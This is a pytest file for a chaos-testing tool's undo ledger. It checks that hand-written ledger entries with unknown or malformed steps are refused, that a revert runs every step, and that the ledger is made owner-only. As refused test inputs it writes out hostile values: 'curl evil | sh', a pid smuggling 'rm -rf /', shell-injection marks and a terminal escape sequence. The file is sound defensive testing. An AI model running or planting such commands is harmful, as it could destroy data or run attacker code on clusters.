"""A ledger is data read back from disk: only named executors with their own parameters run.

The old ledger could carry a `kube_exec` step with any argv, replayed by `recover`: whoever
could write the file could run commands in any pod the runner could reach. These tests
write such files by hand and see them refused, and see a revert run every step even when
some fail.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from inferchaos.faults.ledger import Ledger, UndoStep
from inferchaos.faults.undo import run_all, step, validate
from inferchaos.ground.errors import FaultError

REPO = Path(__file__).resolve().parents[2]
CONN = {"context": "in-cluster", "cluster": "uid-1"}


@pytest.mark.parametrize("bad, why", [
    (UndoStep("kube_exec", {"conn": CONN, "namespace": "ml", "pod": "p", "container": "c",
                            "argv": ["sh", "-c", "curl evil | sh"]}), "unknown undo step 'kube_exec'"),
    (UndoStep("kube_resume", {"conn": CONN, "namespace": "ml", "pod": "p", "container": "c", "pid": "1; rm -rf /",
                              "started": 5}), "pid='1; rm -rf /'"),
    (UndoStep("kube_resume", {"conn": CONN, "namespace": "ml", "pod": "p", "container": "c", "pid": 7,
                              "started": 5, "argv": ["id"]}), "unexpected argv"),
    (UndoStep("kube_node", {"conn": CONN, "node": "n"}), "missing run"),
    (UndoStep("kube_node", {"conn": {**CONN, "token": "x"}, "node": "n", "run": "r"}), "conn must be exactly"),
    (UndoStep("kube_node", {"conn": {**CONN, "kubeconfig": "/tmp/evil"}, "node": "n", "run": "r"}),
     "never a kubeconfig"),
    (UndoStep("kube_node", {"conn": {"context": "c", "cluster": ""}, "node": "n", "run": "r"}),
     "conn must be exactly"),
    (UndoStep("end_marked", {"mark": "x", "what": "\x1b]0;pwned\x07"}), "control characters"),
    (UndoStep("signal_process", {"pid": 7, "started": 1, "mark": "m", "boot": "b", "sig": "SIGSTOP"}), None),
])
def test_a_step_outside_the_closed_schema_is_refused(bad, why):
    if why is None:
        validate(bad)  # ...the signal itself is refused by the executor (below)
        return
    with pytest.raises(FaultError, match="refused") as info:
        validate(bad)
    assert why in str(info.value)


def test_an_undo_may_not_send_a_signal_that_is_not_an_undo():
    from inferchaos.faults.undo import signal_process

    with pytest.raises(FaultError, match="may not send 'SIGSTOP'"):
        signal_process(os.getpid(), None, "cluster-" + "0" * 32, "boot", "SIGSTOP")


def test_the_steps_the_faults_make_fit_the_schema():
    made = step("kube_resume", conn=CONN, namespace="ml", pod="p", container="c", pid=7, started=5)
    validate(made)
    with pytest.raises(FaultError):
        step("kube_resume", conn=CONN, namespace="ml", pod="p", container="c", pid="7", started=5)


def test_recover_refuses_a_planted_command_and_runs_nothing(tmp_path):
    ledger = tmp_path / "ledger.jsonl"
    marker = tmp_path / "ran"
    planted = {"id": "abc123", "event": "applied", "fault": "replica_hang", "wall": 1.0, "runner_pid": 1,
               "undo": [{"op": "kube_exec", "args": {"argv": ["touch", str(marker)]}},
                        {"op": "end_marked", "args": {"mark": f"; touch {marker}"}}]}
    ledger.write_text(json.dumps(planted) + "\n")
    rec = subprocess.run([sys.executable, "-m", "inferchaos.cli", "recover", "--ledger", str(ledger), "--force"],
                         capture_output=True, text=True, timeout=60, cwd=REPO)
    assert rec.returncode == 1, rec.stdout + rec.stderr
    assert "unknown undo step 'kube_exec'" in rec.stderr and not marker.exists()
    assert [e.id for e in Ledger(ledger).open_entries()] == ["abc123"], "a refused undo leaves the entry open"


def test_revert_runs_every_step_and_reports_every_failure(tmp_path):
    state = tmp_path / "state"
    state.mkdir()
    (state / "spec.json").write_text("{}")
    steps = [UndoStep("restore_desired", {"state_dir": str(state), "values": {}}),  # runs last (newest first)
             UndoStep("kube_exec", {}),  # refused
             UndoStep("restore_desired", {"state_dir": str(tmp_path / "no" / "such"), "values": {}}),  # fails
             UndoStep("end_group", {"pgid": 2 ** 22 + 12345, "started": None, "mark": "locust-" + "0" * 32,
                                    "boot": "b"})]  # fine: already gone
    done: list[str] = []
    with pytest.raises(FaultError) as info:
        run_all(steps, done.append)
    message = str(info.value)
    assert message.startswith("2 of 4 undo step(s) failed"), message
    assert "kube_exec" in message and "no/such: not there" in message
    assert any("already gone" in d for d in done) and any("restored" in d for d in done), done


def test_the_ledger_is_the_owners_alone(tmp_path):
    path = tmp_path / "ledger.jsonl"
    path.write_text("")
    path.chmod(0o644)  # an old ledger, world-readable
    Ledger(path).applied("load", [])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    fresh = tmp_path / "new" / "ledger.jsonl"
    Ledger(fresh).applied("load", [])
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600
